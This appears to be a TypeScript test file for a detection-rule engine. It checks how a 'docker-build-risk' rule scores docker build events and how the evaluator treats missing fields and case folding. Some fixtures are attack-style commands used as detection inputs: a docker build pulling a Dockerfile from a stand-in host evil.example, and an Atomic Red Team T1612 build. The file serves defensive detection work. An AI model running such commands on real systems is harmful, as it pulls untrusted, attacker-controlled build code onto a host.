/** The reference evaluator: the outcomes issue #3 names, and the one meaning of a missing value. */
import { describe, expect, it } from 'vitest';
import { compileRule, evaluate } from '../../src/ir/evaluate.js';
import { bundledRule, loadRuleText, miniRule } from '../support/rules.js';

const rule = bundledRule('docker-build-risk');
const build = (CommandLine: string, ParentImage?: string, extra: Record<string, string> = {}) =>
  evaluate(rule, { Image: '/usr/bin/docker', CommandLine, ...(ParentImage ? { ParentImage } : {}), ...extra });

describe('docker-build-risk on the IR', () => {
  it('bash parent + /tmp context scores 5: HIGH, alert', () => {
    expect(build('docker build -t x /tmp/ctx', '/bin/bash')).toEqual({ matched: true, score: 5, tier: 'high', action: 'alert', signals: ['temp_context', 'shell_parent'] });
  });
  it('--no-cache alone scores 1: no match', () => {
    expect(build('docker build --no-cache .', '/usr/sbin/cron')).toEqual({ matched: false, score: 1, tier: null, action: null, signals: ['no_cache'] });
  });
  it('a remote Dockerfile is CRITICAL', () => {
    expect(build('docker build -f https://evil.example/Dockerfile .', '/usr/sbin/cron')).toMatchObject({ matched: true, tier: 'critical', action: 'alert' });
    expect(build('docker build --file=http://evil.example/D .', '/bin/bash')).toMatchObject({ tier: 'critical' });
  });
  it('the Atomic Red Team test is LOW / risk', () => {
    expect(build('docker build -t t1612  $PathtoAtomicsFolder/T1612/src/', '/bin/sh')).toEqual({ matched: true, score: 2, tier: 'low', action: 'risk', signals: ['shell_parent'] });
  });
  it.each(['/usr/sbin/sshd', '/usr/bin/containerd-shim', '/usr/bin/containerd-shim-runc-v2', '/usr/bin/pwsh', '/usr/bin/fish-like'])('parent %s counts as nothing', (p) => {
    expect(build('docker build --no-cache .', p).signals).toEqual(['no_cache']);
  });
  it('an event that is not a build gives score 0 and no signals', () => {
    expect(build('docker run --no-cache -v /tmp:/tmp alpine', '/bin/bash')).toEqual({ matched: false, score: 0, tier: null, action: null, signals: [] });
  });
});

describe('missing values have one meaning', () => {
  const r = loadRuleText(
    'mini-rule',
    miniRule(`match: { field: Image, endswith: /docker }
signals:
  - { id: parent_missing_or_other, weight: 2, description: d, when: { not: { field: ParentImage, equals: /bin/bash } } }
  - { id: parent_any, weight: 1, description: d, when: { field: ParentImage, regex: ".*" } }
threshold: 1
tiers:
  - { name: both, title: t, when: { all: [{ signal: parent_missing_or_other }, { signal: parent_any }] }, level: high, action: alert }
  - { name: other, title: t, default: true, level: low, action: risk }
`),
  );
  it('loads', () => expect(r.diagnostics).toEqual([]));
  const ir = r.irs[0]!;
  it.each([
    ['missing', {}],
    ['null', { ParentImage: null }],
    ['empty', { ParentImage: '' }],
  ])('a %s field: a predicate on it is false and not of it is true', (_name, extra) => {
    expect(evaluate(ir, { Image: '/usr/bin/docker', ...extra }).signals).toEqual(['parent_missing_or_other']);
  });
  it('a profile placeholder is absent too', () => {
    const c = compileRule(ir, { placeholders: ['-'] });
    expect(c.evaluate({ Image: '/usr/bin/docker', ParentImage: '-' }).signals).toEqual(['parent_missing_or_other']);
    expect(compileRule(ir).evaluate({ Image: '/usr/bin/docker', ParentImage: '-' }).signals).toEqual(['parent_missing_or_other', 'parent_any']);
  });
  it('a field the profile does not carry is absent', () => {
    const c = compileRule(ir, { availableFields: new Set(['Image'] as const) });
    expect(c.evaluate({ Image: '/usr/bin/docker', ParentImage: '/bin/bash' }).signals).toEqual(['parent_missing_or_other']);
  });
  it('case-insensitive comparison folds ASCII only', () => {
    expect(evaluate(ir, { Image: '/USR/BIN/DOCKER', ParentImage: '/BIN/BASH' }).signals).toEqual(['parent_any']);
    // U+212A KELVIN SIGN is not K: no Unicode folding
    const k = loadRuleText('mini-rule', miniRule(`match: { field: Image, contains: k }
signals: [{ id: s, weight: 1, description: d, when: { field: Image, contains: k } }]
threshold: 1
tiers: [{ name: t, title: t, default: true, level: low, action: alert }]
`)).irs[0]!;
    expect(evaluate(k, { Image: '\u212A' }).matched).toBe(false);
    expect(evaluate(k, { Image: 'K' }).matched).toBe(true);
  });
});

describe('the needle prefilter is only an optimisation', () => {
  it('results are the same with and without needles on 5,000 generated events', async () => {
    const fc = (await import('fast-check')).default;
    const { events } = await import('../support/events.js');
    type E = import('../../src/ir/nodes.js').Expr;
    const strip = (e: E): E =>
      e.kind === 'regex' ? { kind: 'regex', field: e.field, regex: e.regex, caseSensitive: e.caseSensitive, origin: e.origin } : e.kind === 'not' ? { ...e, arg: strip(e.arg) } : e.kind === 'and' || e.kind === 'or' ? { ...e, args: e.args.map(strip) } : e;
    const plain = { ...rule, match: strip(rule.match), signals: rule.signals.map((s) => ({ ...s, expr: strip(s.expr) })) };
    const withNeedles = compileRule(rule);
    const without = compileRule(plain);
    expect(JSON.stringify(rule.signals.map((s) => s.expr))).toContain('needles');
    fc.assert(
      fc.property(events, (e) => {
        expect(withNeedles.evaluate(e)).toEqual(without.evaluate(e));
      }),
      { seed: 7, numRuns: 5000 },
    );
  });
});
